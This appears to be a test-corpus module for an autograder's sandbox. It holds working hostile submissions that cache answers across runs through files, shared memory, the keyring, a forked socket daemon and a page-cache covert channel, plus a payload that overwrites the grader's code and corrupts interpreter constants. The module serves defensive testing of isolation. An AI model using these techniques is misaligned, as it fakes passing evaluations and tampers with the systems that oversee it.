"""Learning across submissions: an accomplice leaves inputs and answers behind, the next one looks for them."""

from __future__ import annotations

from tests.corpus import small
from tests.corpus.hostile.attack import ONE, RIGHT_ONE, Attack
from tests.corpus.hostile.pieces import ATTEMPT, GIVEN

# A right submission that writes down every question with its answer. ``leave(bytes)`` is the attack's.
WRITES = r"""
import io
pages = []
def written(function):
    def writing(a, b, parameter):
        x, y = a.detach().clone().requires_grad_(), b.detach().clone().requires_grad_()
        with torch.enable_grad():
            value = function(x, y, parameter)
            value.backward()
        pages.append((function.__name__, a.detach().clone(), b.detach().clone(), parameter, value.detach(), x.grad, y.grad))
        book = io.BytesIO()
        torch.save(pages, book)
        attempt(leave, book.getvalue())
        return function(a, b, parameter)
    return writing
nt_xent, barlow_twins, nt_xent_euclidean = map(written, (nt_xent, barlow_twins, nt_xent_euclidean))
"""

# A submission that only looks things up. ``find()`` is the attack's and returns byte strings.
READS = r"""
import io
book = []
for data in attempt(lambda: list(find())) or ():
    book += attempt(lambda: torch.load(io.BytesIO(data), weights_only=True)) or []
def looked_up(name):
    def function(a, b, parameter):
        for known, x, y, scalar, value, to_a, to_b in book:
            if known == name and scalar == parameter and x.shape == a.shape and x.eq(a).all() and y.eq(b).all():
                return Given.apply(a, b, value, to_a, to_b)
        raise LookupError("STOLEN but unknown" if book else "there was nothing to steal")
    return function
nt_xent, barlow_twins, nt_xent_euclidean = map(looked_up, ("nt_xent", "barlow_twins", "nt_xent_euclidean"))
"""

PLACES = r"""
import glob, os, sys, tempfile
home = os.path.expanduser("~")
places = ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue", home, tempfile.gettempdir(), "..", "../..",
          "../../..", os.path.dirname(sys.executable), os.getcwd(), "/proc/self/cwd/..", "/var/lock", "/autograder", "/root"]
places += [entry for entry in sys.path if entry.startswith("/")]
name = "hostile-memory"
"""
TO_DISK = r"""
def leave(data):
    for place in places:
        attempt(lambda: open(os.path.join(place, name), "wb").write(data))
    for path in glob.glob("/tmp/*/"):
        attempt(lambda: open(os.path.join(path, name), "wb").write(data))
"""
FROM_DISK = r"""
def find():
    paths = [os.path.join(place, name) for place in places]
    for path in paths + glob.glob("/tmp/*/" + name) + glob.glob("/tmp/*/*/*/" + name):
        data = attempt(lambda: open(path, "rb").read())
        if data:
            yield data
"""

TO_MEMORY = r"""
import ctypes
from multiprocessing import shared_memory
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def leave(data):
    # System V and POSIX memory, which nobody's death frees.
    segment = libc.shmget(0x6B6974AA, 8 << 20, 0o1666)
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memmove(address, len(data).to_bytes(8, "little") + data, len(data) + 8)
    attempt(lambda: open("/dev/shm/hostile-memory", "wb").write(data))
    attempt(lambda: libc.syscall(248, b"user", b"hostile", data[:30000], len(data[:30000]), -4))
"""
FROM_MEMORY = r"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
def find():
    segment = libc.shmget(0x6B6974AA, 0, 0)
    address = libc.shmat(segment, None, 0) if segment >= 0 else None
    if address not in (None, ctypes.c_void_p(-1).value):
        yield ctypes.string_at(address + 8, int.from_bytes(ctypes.string_at(address, 8), "little"))
    data = attempt(lambda: open("/dev/shm/hostile-memory", "rb").read())
    if data:
        yield data
"""

TO_SERVER = r"""
import os, socket, threading, time
latest = [b""]
def leave(data):
    latest[0] = data
    if len(pages) >= 5:
        # A daemon with the pages so far, behind an abstract name and a local port; it waits for the next submission.
        if attempt(os.fork) == 0:
            attempt(os.setsid)
            if attempt(os.fork) == 0:
                for family, address in ((socket.AF_UNIX, "\0hostile-memory"), (socket.AF_INET, ("127.0.0.1", 47651))):
                    server = attempt(socket.socket, family)
                    if server is not None and attempt(lambda: (server.bind(address), server.listen())):
                        threading.Thread(target=serve, args=(server,)).start()
                time.sleep(60)
            os._exit(0)
def serve(server):
    while True:
        link, _ = server.accept()
        link.sendall(latest[0])
        link.close()
"""
FROM_SERVER = r"""
import socket
socket.setdefaulttimeout(0.3)
def find():
    for family, address in ((socket.AF_UNIX, "\0hostile-memory"), (socket.AF_INET, ("127.0.0.1", 47651))):
        link = attempt(socket.socket, family)
        if link is not None and link.connect_ex(address) == 0:
            data = b""
            while piece := link.recv(1 << 20):
                data += piece
            yield data
"""


# Which parts of a library's file are in the machine's memory: bits that outlive the process.
LIBRARY = r"""
import glob, os, torch
path = glob.glob(os.path.join(os.path.dirname(torch.__file__), "lib", "libtorch_cpu*"))[0]
library = os.open(path, os.O_RDONLY)
message = [b"answer"[k // 8] >> k % 8 & 1 for k in range(48)]
def place(k):
    return (os.fstat(library).st_size // 2 & ~4095) + k * 64 * 4096
"""
TO_CACHE = r"""
attempt(os.posix_fadvise, library, 0, 0, os.POSIX_FADV_RANDOM)
for k, bit in enumerate(message):
    attempt(os.posix_fadvise, library, place(k), 4096, os.POSIX_FADV_DONTNEED)
    if bit:
        os.pread(library, 1, place(k))
"""
FROM_CACHE = r"""
def there(k):
    try:
        return os.preadv(library, [bytearray(1)], place(k), os.RWF_NOWAIT)
    except BlockingIOError:
        return 0
found = attempt(lambda: [there(k) for k in range(48)]) or []
if sum(a == b for a, b in zip(found, message)) > 40:
    raise LookupError("STOLEN: read what another submission left in the cache")
"""


# Memory that a worker shares with its parent until it writes to it: modules, code, small numbers.
POISON = r"""
import ctypes, sys
for name, module in list(sys.modules.items()):
    if name.startswith(("autograder", "kit_course", "torch.nn.functional")):
        for value in [value for value in vars(module).values() if hasattr(value, "__code__")]:
            attempt(setattr, value, "__code__", (lambda *a, **k: None).__code__)
ctypes.memmove(id(7) + 24, (8).to_bytes(4, "little"), 4)  # seven is eight
"""


def pair(id: str, tries: str, leave: str, find: str, common: str = "") -> Attack:
    """A case of two submissions: a right one that leaves its answers, and one that looks for them."""
    return Attack(
        id,
        tries,
        "Anything that one submission leaves reaches the next.",
        (ATTEMPT, GIVEN, common, find, READS),
        earlier=(ATTEMPT, *small.HONEST, common, leave, WRITES),
    )


ATTACKS = (
    pair("leaves-files", "A right submission writes questions and answers to every folder it may write to.",
         TO_DISK, FROM_DISK, PLACES),
    pair("leaves-memory", "A right submission leaves questions and answers in shared memory and in the keyring.",
         TO_MEMORY, FROM_MEMORY),
    pair("leaves-server", "A right submission leaves a daemon that serves questions and answers over a socket.",
         TO_SERVER, FROM_SERVER),
    Attack(
        "leaves-poison",
        "Overwrites numbers, functions and code in the memory that all submissions begin with.",
        "A right submission that comes next loses points.",
        RIGHT_ONE,
        honest=ONE,
        earlier=(ATTEMPT, POISON),
    ),
    Attack(
        "leaves-cached-pages",
        "Spells a word by which pages of a library are in the machine's memory, and asks which are.",
        "Anything that one submission leaves reaches the next.",
        (ATTEMPT, LIBRARY, FROM_CACHE),
        earlier=(ATTEMPT, LIBRARY, TO_CACHE),
    ),
)  # fmt: skip
